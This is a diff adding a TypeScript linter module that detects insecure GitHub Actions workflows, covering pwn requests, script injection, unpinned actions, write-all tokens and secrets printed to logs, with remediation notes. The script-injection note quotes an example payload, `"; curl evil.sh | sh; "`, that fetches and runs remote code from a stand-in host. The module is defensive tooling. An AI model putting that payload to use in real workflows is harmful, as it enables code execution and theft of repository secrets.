@@ -1,0 +1,219 @@
+/**
+ * GitHub Actions workflow security, after GitHub's "Security hardening for GitHub Actions"
+ * (https://docs.github.com/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions)
+ * and GitHub Security Lab's "Preventing pwn requests"
+ * (https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/).
+ */
+import type { CheckHit, CheckRule, FileCheck } from '../check.js';
+import { parseWorkflow, type Workflow, type WorkflowJob } from './parse-workflow.js';
+
+const HARDENING =
+  'https://docs.github.com/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions';
+
+const rule = (r: Omit<CheckRule, 'language' | 'category'>): CheckRule => ({
+  ...r,
+  language: 'github-actions',
+  category: 'security',
+});
+
+export const PWN_REQUEST = rule({
+  id: 'gha-untrusted-checkout',
+  severity: 'critical',
+  confidence: 0.9,
+  message: '`pull_request_target`/`workflow_run` workflow checks out the PR head and then runs it',
+  note: `These triggers run with the base repository's secrets and a write token. Checking out the pull request's code and then building, testing or running anything from it hands both to whoever opened the PR (a "pwn request"). Run untrusted code under \`pull_request\` instead, or split the work: build in \`pull_request\`, use the result in a separate \`workflow_run\` job that never executes it. See ${HARDENING} and https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/.`,
+});
+
+export const SCRIPT_INJECTION = rule({
+  id: 'gha-script-injection',
+  severity: 'high',
+  confidence: 0.9,
+  message: 'Attacker-controlled `${{ github.event.* }}` expanded inside a `run:` script (script injection)',
+  note: `The expression is pasted into the script before the shell runs it, so a PR title, comment or branch name such as \`"; curl evil.sh | sh; "\` becomes code. Pass the value through an environment variable and quote it: \`env: { TITLE: \${{ github.event.pull_request.title }} }\` and \`echo "$TITLE"\`. See ${HARDENING}#understanding-the-risk-of-script-injections.`,
+});
+
+export const UNPINNED_ACTION = rule({
+  id: 'gha-unpinned-action',
+  severity: 'medium',
+  confidence: 0.85,
+  message: 'Third-party action pinned to a movable tag or branch in a privileged workflow',
+  note: `A tag such as \`@v2\` or a branch such as \`@main\` can be moved to new code by the action's owner (or whoever compromises it), and this workflow has secrets or a write token to give away. Pin the full commit SHA and keep the version in a comment: \`uses: owner/action@<40-hex sha> # v2.1.0\`. Actions owned by GitHub (\`actions/*\`, \`github/*\`) are not flagged: they come from the platform that already holds the token. See ${HARDENING}#using-third-party-actions.`,
+});
+
+export const WRITE_ALL = rule({
+  id: 'gha-permissions-write-all',
+  severity: 'medium',
+  confidence: 0.95,
+  message: '`permissions: write-all` gives the workflow token every write scope',
+  note: `Any step (or compromised action) can then push code, edit releases and change settings. Grant only what the jobs need, e.g. \`permissions: { contents: read, pull-requests: write }\`. See ${HARDENING}#using-secrets and https://docs.github.com/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token.`,
+});
+
+export const SECRET_IN_LOG = rule({
+  id: 'gha-secret-in-log',
+  severity: 'medium',
+  confidence: 0.8,
+  message: 'Secret printed to the job log',
+  note: `GitHub masks a secret's exact value in logs, but not a transformed one (base64, JSON, a substring, split lines), and logs of public repositories are public. Do not print secrets; check their presence with \`test -n "$TOKEN"\`. See ${HARDENING}#using-secrets.`,
+});
+
+export const WORKFLOW_RULES = [PWN_REQUEST, SCRIPT_INJECTION, UNPINNED_ACTION, WRITE_ALL, SECRET_IN_LOG];
+
+// Triggers that run with secrets and a write token on events outsiders can cause.
+const PRIVILEGED_TRIGGERS = new Set([
+  'pull_request_target',
+  'workflow_run',
+  'issue_comment',
+  'issues',
+  'discussion',
+  'discussion_comment',
+  'pull_request_review',
+  'pull_request_review_comment',
+]);
+
+// Refs that name the pull request's own code. https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/
+const PR_HEAD =
+  /github\.event\.pull_request\.head\.(sha|ref)|github\.head_ref|refs\/pull\/|github\.event\.workflow_run\.head_(sha|branch)|github\.event\.pull_request\.merge_commit_sha/;
+
+// Context fields outsiders write, after GitHub's list of untrusted input (fields ending in body,
+// default_branch, email, head_ref, label, message, name, page_name, ref, title).
+// https://docs.github.com/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
+const UNTRUSTED =
+  /^(github\.head_ref|github\.event\.(?!repository\.|inputs\.|sender\.login$)[\w.*[\]'"-]*\.(body|default_branch|email|head_ref|label|message|name|page_name|ref|title|head_branch|display_title))$/;
+
+// Names GitHub restricts to letters, digits, `.`, `_` and `-`: they cannot carry shell syntax.
+const RESTRICTED = /\.(repo|head\.repo|base\.repo)\.(name|full_name)$|\.(owner|user|sender)\.login$/;
+
+const SHA = /^[0-9a-f]{40}$/;
+const PRINT = /^(echo|printf|cat|tee)\b/;
+
+/** The GitHub Actions workflow check: `.github/workflows/*.yml|yaml`. */
+export const workflowCheck: FileCheck = {
+  language: 'github-actions',
+  rules: WORKFLOW_RULES,
+  covers: (path) => /(^|\/)\.github\/workflows\/[^/]+\.ya?ml$/i.test(path),
+  run(content) {
+    const workflow = parseWorkflow(content);
+    if (!workflow) return [];
+    const triggers = new Set(workflow.triggers.map((t) => t.value));
+    const privileged = [...triggers].some((t) => PRIVILEGED_TRIGGERS.has(t));
+    return [
+      ...writeAll(workflow, content.split('\n')),
+      ...workflow.jobs.flatMap((job) => [
+        ...untrustedCheckout(workflow, job, triggers),
+        ...scriptInjection(job, privileged),
+        ...unpinned(workflow, job, privileged),
+        ...secretsPrinted(job),
+      ]),
+    ];
+  },
+};
+
+function writeAll(workflow: Workflow, source: string[]): CheckHit[] {
+  const all = [workflow.permissions, ...workflow.jobs.map((j) => j.permissions)];
+  return all.flatMap((p) => {
+    if (p?.value.trim() !== 'write-all') return [];
+    // `permissions: write-all` on its own line becomes a read-only block the author widens as needed.
+    const text = source[p.line - 1] ?? '';
+    const own = /^(\s*)permissions:\s*write-all\s*(#.*)?$/.exec(text);
+    const suggestion = own ? `${own[1]}permissions:\n${own[1]}  contents: read` : undefined;
+    return [
+      {
+        rule: WRITE_ALL,
+        lines: [p.line],
+        suggestion,
+        detail: 'Start from `contents: read` and add the scopes the jobs need.',
+      },
+    ];
+  });
+}
+
+function untrustedCheckout(workflow: Workflow, job: WorkflowJob, triggers: Set<string>): CheckHit[] {
+  const trigger = ['pull_request_target', 'workflow_run'].find((t) => triggers.has(t));
+  if (!trigger) return [];
+  const hits: CheckHit[] = [];
+  job.steps.forEach((step, index) => {
+    const checksOutHead =
+      (step.uses &&
+        /^actions\/checkout@/.test(step.uses.value) &&
+        step.ref &&
+        PR_HEAD.test(step.ref.value)) ||
+      step.run?.some((l) =>
+        /\bgh pr checkout\b|git (fetch|checkout)\b.*(pull\/|head_ref|head\.sha|head\.ref)/.test(l.value),
+      );
+    if (!checksOutHead) return;
+    const later = job.steps.slice(index + 1).filter((s) => s.run || s.uses?.value.startsWith('./'));
+    if (later.length === 0) return;
+    const triggerLine = workflow.triggers.find((t) => t.value === trigger)?.line;
+    const lines = [step.ref?.line ?? step.line, ...later.map((s) => s.run?.[0]?.line ?? s.line)];
+    hits.push({
+      rule: PWN_REQUEST,
+      lines: triggerLine === undefined ? lines : [...lines, triggerLine],
+      detail: `Triggered by \`${trigger}\`; job \`${job.id}\` runs ${later.length} step(s) after checking out the PR.`,
+    });
+  });
+  return hits;
+}
+
+function scriptInjection(job: WorkflowJob, privileged: boolean): CheckHit[] {
+  const hits: CheckHit[] = [];
+  for (const line of job.steps.flatMap((s) => s.run ?? [])) {
+    const untrusted = line.expressions.filter((e) => UNTRUSTED.test(e) && !RESTRICTED.test(e));
+    if (untrusted.length === 0) continue;
+    const name = envName(untrusted[0]!);
+    hits.push({
+      rule: SCRIPT_INJECTION,
+      severity: privileged ? 'critical' : 'high',
+      lines: [line.line],
+      detail: `\`\${{ ${untrusted[0]} }}\` is written by whoever opens the issue, PR or comment${privileged ? ', and this workflow runs with secrets and a write token' : ''}. Move it to \`env: { ${name}: \${{ ${untrusted[0]} }} }\` and use \`"$${name}"\`.`,
+    });
+  }
+  return hits;
+}
+
+/** An env name for an expression: `github.event.pull_request.title` → `PR_TITLE`-like `PULL_REQUEST_TITLE`. */
+function envName(expression: string): string {
+  const parts = expression
+    .replace(/^github\.(event\.)?/, '')
+    .split('.')
+    .slice(-2);
+  return parts
+    .join('_')
+    .replace(/[^A-Za-z0-9]+/g, '_')
+    .toUpperCase();
+}
+
+function unpinned(workflow: Workflow, job: WorkflowJob, privileged: boolean): CheckHit[] {
+  const writes = [workflow.permissions, job.permissions].some((p) => p && /write/.test(p.value));
+  const secrets = job.steps.some((s) => s.secretEnv.size > 0);
+  if (!privileged && !writes && !secrets) return [];
+  return job.steps.flatMap((step) => {
+    const uses = step.uses;
+    const match = uses && /^([\w.-]+)\/[\w./-]+@(.+)$/.exec(uses.value.trim());
+    if (!uses || !match || SHA.test(match[2]!) || /^(actions|github)$/i.test(match[1]!)) return [];
+    return [
+      {
+        rule: UNPINNED_ACTION,
+        lines: [uses.line],
+        detail: `\`${uses.value}\` follows whatever \`${match[2]}\` points to when the workflow runs.`,
+      },
+    ];
+  });
+}
+
+function secretsPrinted(job: WorkflowJob): CheckHit[] {
+  const hits: CheckHit[] = [];
+  for (const step of job.steps) {
+    for (const line of step.run ?? []) {
+      // Each command of the line on its own: `echo ok && test -n "$TOKEN"` prints no secret.
+      const commands = line.value.split(/&&|\|\||;|\|/).map((c) => c.trim());
+      const leaks = commands.some(
+        (c) =>
+          PRINT.test(c) &&
+          (/\$\{\{[^}]*\bsecrets\b/.test(c) ||
+            [...step.secretEnv].some((n) => new RegExp(`\\$\\{?${n}\\b`).test(c))),
+      );
+      if (leaks) hits.push({ rule: SECRET_IN_LOG, lines: [line.line] });
+    }
+  }
+  return hits;
+}
